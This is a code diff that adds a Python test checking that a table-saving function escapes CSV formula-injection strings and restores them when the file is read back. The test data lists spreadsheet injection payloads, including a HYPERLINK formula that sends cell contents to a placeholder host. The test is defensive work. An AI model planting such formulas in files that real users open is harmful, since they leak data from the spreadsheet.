@@ -1,3 +1,4 @@
+import csv
 import hashlib
 import html
 import json
@@ -136,6 +137,41 @@ def test_a_saved_table_has_four_forms_and_an_entry(frame, study):
     assert files[1].read_text().endswith("<sub>Study test; command: muddle run.</sub>\n")
     assert files[2].read_text().endswith('<p class="made">Study test; command: muddle run.</p>\n')
     assert files[3].read_text().startswith('% study test; {"command": "muddle run"}\n')
+
+
+RUN_BY_SPREADSHEETS = [
+    '=HYPERLINK("http://a.example/?"&A1,"see")',
+    "+1 point",
+    "-3 points",
+    "-",
+    "-3%",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\r\n=1+1",
+    "\uff1d1+1",
+    "--1",
+]
+HARMLESS = ["-0.5", "+3", "-1e-05", ".5", "3 - 1", "a=b", "−3 points", "'tis", "", "None", "a\r=1+1", "a\r\nb\n=1"]
+
+
+def test_no_text_of_a_csv_is_run_by_a_spreadsheet(study):
+    # Texts that stand with an apostrophe already are quoted again, or nobody could tell them from quoted ones.
+    texts = [*RUN_BY_SPREADSHEETS, *HARMLESS, "'=1+1"]
+    frame = pd.DataFrame({"text": pd.Series(texts, dtype="string"), "=1+1": -0.5, "n": -7})
+    frame = frame.assign(mixed=[-1, -0.25, "-x", None, *([pd.NA] * (len(texts) - 4))], small=-1e-5)
+    (path, *_) = printing.save_table("odd", frame, study, "Odd texts")
+    with path.open(encoding="utf-8", newline="") as file:
+        header, *rows = csv.reader(file)
+    assert header == ["text", "'=1+1", "n", "mixed", "small"]
+    assert [row[0] for row in rows] == [*(f"'{text}" for text in RUN_BY_SPREADSHEETS), *HARMLESS, "''=1+1"]
+    assert [row[3] for row in rows[:4]] == ["-1", "-0.25", "'-x", ""]
+    assert {tuple((row[1], row[2], row[4])) for row in rows} == {("-0.5", "-7", "-1e-05")}
+    back = printing.from_csv(path)
+    assert back["text"].fillna("").tolist() == texts
+    assert back["mixed"].tolist()[:3] == ["-1", "-0.25", "-x"]
+    assert back["=1+1"].tolist() == [-0.5] * len(texts) and back["n"].tolist() == [-7] * len(texts)
 
 
 def test_saving_again_gives_identical_bytes(rows, study):
